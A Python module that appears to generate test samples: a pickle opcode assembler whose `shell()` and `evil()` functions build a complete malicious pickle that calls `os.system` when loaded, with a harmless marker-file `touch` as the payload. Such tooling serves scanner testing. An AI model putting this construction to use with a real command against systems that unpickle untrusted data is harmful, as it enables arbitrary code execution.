"""A small pickle assembler: opcodes as functions, so that a sample reads as what it does.

Every function returns an `Op`, a piece of an opcode stream. Python values given where an `Op` is expected
are encoded by `value()`. Nothing is memoized unless a sample says so. Opcode names and layouts are those of
CPython's `Lib/pickle.py` and `Lib/pickletools.py`.

The payloads below are harmless: they create the file that `VIOLET_MARKER` names, or (for functions that take
a path) a file called `violet_marker` in the working directory, or delete the file `violet_victim` there.
"""

from __future__ import annotations

import struct
from typing import Any

SHELL = 'touch "$VIOLET_MARKER"'
PYTHON = "open(__import__('os').environ['VIOLET_MARKER'],'w').close()"
MARKER = "violet_marker"
VICTIM = "violet_victim"


class Op(bytes):
    """A piece of a pickle stream, as opposed to a bytes value."""

    def __add__(self, other: bytes) -> Op:
        return Op(bytes(self) + bytes(other))


MARK, STOP, POP, POP_MARK, DUP = Op(b"("), Op(b"."), Op(b"0"), Op(b"1"), Op(b"2")
NONE, TRUE, FALSE = Op(b"N"), Op(b"\x88"), Op(b"\x89")
TUPLE, EMPTY_TUPLE, LIST, EMPTY_LIST = Op(b"t"), Op(b")"), Op(b"l"), Op(b"]")
DICT, EMPTY_DICT = Op(b"d"), Op(b"}")
TUPLE1, TUPLE2, TUPLE3 = Op(b"\x85"), Op(b"\x86"), Op(b"\x87")
APPEND, APPENDS, SETITEM, SETITEMS = Op(b"a"), Op(b"e"), Op(b"s"), Op(b"u")
EMPTY_SET, ADDITEMS, FROZENSET = Op(b"\x8f"), Op(b"\x90"), Op(b"\x91")
REDUCE, BUILD, OBJ, NEWOBJ, NEWOBJ_EX = Op(b"R"), Op(b"b"), Op(b"o"), Op(b"\x81"), Op(b"\x92")
STACK_GLOBAL, MEMOIZE, BINPERSID = Op(b"\x93"), Op(b"\x94"), Op(b"Q")
NEXT_BUFFER, READONLY_BUFFER = Op(b"\x97"), Op(b"\x98")


def proto(number: int) -> Op:
    return Op(b"\x80" + bytes([number]))


def frame(length: int) -> Op:
    return Op(b"\x95" + struct.pack("<Q", length))


def text(string: str) -> Op:
    """Push a str with SHORT_BINUNICODE or BINUNICODE."""
    data = string.encode("utf-8", "surrogatepass")
    if len(data) < 256:
        return Op(b"\x8c" + bytes([len(data)]) + data)
    return Op(b"X" + struct.pack("<I", len(data)) + data)


def text8(string: str) -> Op:
    data = string.encode()
    return Op(b"\x8d" + struct.pack("<Q", len(data)) + data)


def unicode_line(escaped: str) -> Op:
    """Push a str with the text opcode UNICODE; `escaped` is raw-unicode-escape text."""
    return Op(b"V" + escaped.encode("raw_unicode_escape") + b"\n")


def string_line(quoted: bytes) -> Op:
    """Push a str with the text opcode STRING; the caller quotes."""
    return Op(b"S" + quoted + b"\n")


def short_binstring(data: bytes) -> Op:
    return Op(b"U" + bytes([len(data)]) + data)


def binstring(data: bytes) -> Op:
    return Op(b"T" + struct.pack("<i", len(data)) + data)


def raw(data: bytes) -> Op:
    """Push a bytes value with SHORT_BINBYTES or BINBYTES."""
    if len(data) < 256:
        return Op(b"C" + bytes([len(data)]) + data)
    return Op(b"B" + struct.pack("<I", len(data)) + data)


def bytearray8(data: bytes) -> Op:
    return Op(b"\x96" + struct.pack("<Q", len(data)) + data)


def integer(number: int) -> Op:
    if 0 <= number < 256:
        return Op(b"K" + bytes([number]))
    if -(2**31) <= number < 2**31:
        return Op(b"J" + struct.pack("<i", number))
    data = number.to_bytes(number.bit_length() // 8 + 1, "little", signed=True)
    return Op(b"\x8a" + bytes([len(data)]) + data)


def line(opcode: bytes, argument: str) -> Op:
    """A text opcode with one newline-terminated argument (INT, LONG, FLOAT, PUT, GET, PERSID)."""
    return Op(opcode + argument.encode() + b"\n")


def put(index: int) -> Op:
    return Op(b"q" + bytes([index])) if index < 256 else Op(b"r" + struct.pack("<I", index))


def get(index: int) -> Op:
    return Op(b"h" + bytes([index])) if index < 256 else Op(b"j" + struct.pack("<I", index))


def ext(code: int) -> Op:
    """Push the extension registry's entry for `code` (EXT1, EXT2 or EXT4)."""
    if code < 256:
        return Op(b"\x82" + bytes([code]))
    if code < 65536:
        return Op(b"\x83" + struct.pack("<H", code))
    return Op(b"\x84" + struct.pack("<i", code))


def global_(module: str, name: str) -> Op:
    """The text opcode GLOBAL; below protocol 4 a dotted `name` is one attribute."""
    return Op(f"c{module}\n{name}\n".encode())


def stack_global(module: str, name: str) -> Op:
    """STACK_GLOBAL with both operands pushed right before it; a dotted `name` is traversed."""
    return text(module) + text(name) + STACK_GLOBAL


def inst(module: str, name: str, *arguments: Any) -> Op:
    return MARK + values(*arguments) + Op(f"i{module}\n{name}\n".encode())


def value(item: Any) -> Op:
    """Encode one Python value (or pass an `Op` through)."""
    if isinstance(item, Op):
        return item
    if item is None:
        return NONE
    if item is True or item is False:
        return TRUE if item else FALSE
    if isinstance(item, str):
        return text(item)
    if isinstance(item, int):
        return integer(item)
    if isinstance(item, float):
        return Op(b"G" + struct.pack(">d", item))
    if isinstance(item, bytes):
        return raw(item)
    if isinstance(item, tuple):
        return tuple_(*item)
    if isinstance(item, list):
        return EMPTY_LIST + MARK + values(*item) + APPENDS
    if isinstance(item, dict):
        pairs = [part for pair in item.items() for part in pair]
        return EMPTY_DICT + MARK + values(*pairs) + SETITEMS
    raise TypeError(f"no pickle encoding for {type(item).__name__}")


def values(*items: Any) -> Op:
    return Op(b"".join(value(item) for item in items))


def tuple_(*items: Any) -> Op:
    short = {0: EMPTY_TUPLE, 1: TUPLE1, 2: TUPLE2, 3: TUPLE3}
    if len(items) in short:
        return values(*items) + short[len(items)]
    return MARK + values(*items) + TUPLE


def call(function: bytes, *arguments: Any) -> Op:
    """`function(*arguments)` by REDUCE."""
    return Op(function) + tuple_(*arguments) + REDUCE


def new(cls: bytes, *arguments: Any) -> Op:
    """`cls.__new__(cls, *arguments)` by NEWOBJ."""
    return Op(cls) + tuple_(*arguments) + NEWOBJ


def build(instance: bytes, state: Any) -> Op:
    """Give `state` to `instance` by BUILD."""
    return Op(instance) + value(state) + BUILD


def pickle(body: bytes, protocol: int = 4) -> bytes:
    """Wrap a body into PROTO and STOP; from protocol 4 on into a truthful FRAME."""
    framed = body + STOP
    if protocol >= 4:
        framed = frame(len(framed)) + framed
    return bytes((proto(protocol) if protocol >= 2 else b"") + framed)


def shell(module: str = "os") -> Op:
    """The plainest payload: `os.system(SHELL)`."""
    return call(stack_global(module, "system"), SHELL)


def evil(protocol: int = 4) -> bytes:
    """A complete malicious pickle for wrappers and containers."""
    if protocol < 4:
        return pickle(global_("os", "system") + MARK + unicode_line(SHELL) + TUPLE + REDUCE, protocol)
    return pickle(shell(), protocol)
